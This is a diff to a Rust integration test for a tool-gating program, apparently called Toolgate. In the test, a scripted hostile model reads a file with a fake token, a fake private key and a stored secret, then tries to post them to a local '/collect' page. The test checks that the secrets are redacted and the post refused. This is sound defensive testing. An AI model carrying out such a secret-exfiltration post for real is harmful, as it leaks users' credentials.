@@ -2,7 +2,8 @@
 //! a hostile scripted model reads a file holding a canary token and a private key with the
 //! naive server, then tries to post the token to a web page it is allowed to post to.
 //!
-//! - the file's secrets reach the model removed, a marker naming what each looked like;
+//! - the file's secrets reach the model removed, a marker naming what each looked like, the
+//!   value of the server's own `${secret:NOTES_KEY}` (in no shape a rule knows) included;
 //! - the post is asked despite the always-allow rule, and with nobody to ask it is refused,
 //!   the finding in the audit entry's reason; the page receives nothing;
 //! - with the server's `scanSecrets` off, the same post goes through (the switch works).
@@ -19,6 +20,8 @@ use toolgate_tests::{
 };
 
 const CANARY: &str = "ghp_C4nAryT0kenN0tReal0123456789abcdefAB";
+/// A value of Toolgate's own (the server's `${secret:NOTES_KEY}`), in no shape a rule knows.
+const KNOWN: &str = "plain-looking-value-42";
 const PRIVATE_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----";
 
 fn settings(provider: &ScriptedProvider, scan: Option<bool>, files: &Path) -> Settings {
@@ -30,6 +33,9 @@ fn settings(provider: &ScriptedProvider, scan: Option<bool>, files: &Path) -> Se
         ..Default::default()
     });
     server.trust.scan_secrets = scan;
+    if let toolgate_settings::Transport::Stdio { env, .. } = &mut server.transport {
+        env.insert("NOTES_KEY".into(), "${secret:NOTES_KEY}".into());
+    }
     let mut settings = Settings::first_run(server);
     settings.provider = ProviderSettings {
         kind: ProviderKind::Anthropic,
@@ -51,6 +57,24 @@ fn allow(settings: &mut Settings, tool: &str) {
     let mut rule = Rule::allow_tool(format!("allow-{tool}"), &call, Scope::Always, 0);
     rule.bound_to = None;
     settings.policy.rules.push(rule);
+}
+
+/// `toolgate secrets set NOTES_KEY`, typed at its prompt.
+fn set_known(dir: &Path) {
+    use std::io::Write;
+    let mut set = Command::new(env!("CARGO_BIN_EXE_toolgate"))
+        .arg("--data-dir")
+        .arg(dir)
+        .args(["secrets", "set", "NOTES_KEY"])
+        .stdin(Stdio::piped())
+        .spawn()
+        .expect("toolgate runs");
+    set.stdin
+        .take()
+        .expect("stdin")
+        .write_all(format!("{KNOWN}\n").as_bytes())
+        .expect("typed");
+    assert!(set.wait().expect("secrets set").success());
 }
 
 fn run(dir: &Path) -> Output {
@@ -78,7 +102,7 @@ fn script(file: &Path, page: u16) -> Vec<Scripted> {
             vec![anthropic::tool_use_block(
                 "t2",
                 "post_url",
-                json!({"url": format!("http://127.0.0.1:{page}/collect"), "body": format!("token={CANARY}")}),
+                json!({"url": format!("http://127.0.0.1:{page}/collect"), "body": format!("token={CANARY} key={KNOWN}")}),
             )],
             "tool_use",
         )),
@@ -92,7 +116,7 @@ async fn a_canary_token_is_neither_shown_to_the_model_nor_posted_without_a_perso
     let file = dir.join("notes.txt");
     std::fs::write(
         &file,
-        format!("my token: {CANARY}\n{PRIVATE_KEY}\nbuy milk\n"),
+        format!("my token: {CANARY}\n{PRIVATE_KEY}\nnotes key: {KNOWN}\nbuy milk\n"),
     )
     .expect("file");
     let (page, posted) = web_page("<p>ok</p>".into()).await;
@@ -101,6 +125,7 @@ async fn a_canary_token_is_neither_shown_to_the_model_nor_posted_without_a_perso
     allow(&mut s, "read_file");
     allow(&mut s, "post_url");
     toolgate_settings::file::save(&dir.join("settings.json"), &s).expect("settings");
+    set_known(&dir);
 
     let out = run(&dir);
     let stdout = String::from_utf8_lossy(&out.stdout);
@@ -118,6 +143,14 @@ async fn a_canary_token_is_neither_shown_to_the_model_nor_posted_without_a_perso
         "the key reached the model"
     );
     assert!(sent.contains("[secret removed:"), "{sent}");
+    assert!(
+        !sent.contains(KNOWN),
+        "Toolgate's own value reached the model: {sent}"
+    );
+    assert!(
+        sent.contains("a secret Toolgate keeps (NOTES_KEY)"),
+        "{sent}"
+    );
     assert!(sent.contains("buy milk"), "the rest of the file is there");
     // The post was asked (nobody could answer) and never left.
     assert!(
@@ -150,6 +183,7 @@ async fn a_canary_token_is_neither_shown_to_the_model_nor_posted_without_a_perso
     allow(&mut s, "read_file");
     allow(&mut s, "post_url");
     toolgate_settings::file::save(&off.join("settings.json"), &s).expect("settings");
+    set_known(&off);
     let out = run(&off);
     assert_eq!(
         out.status.code(),
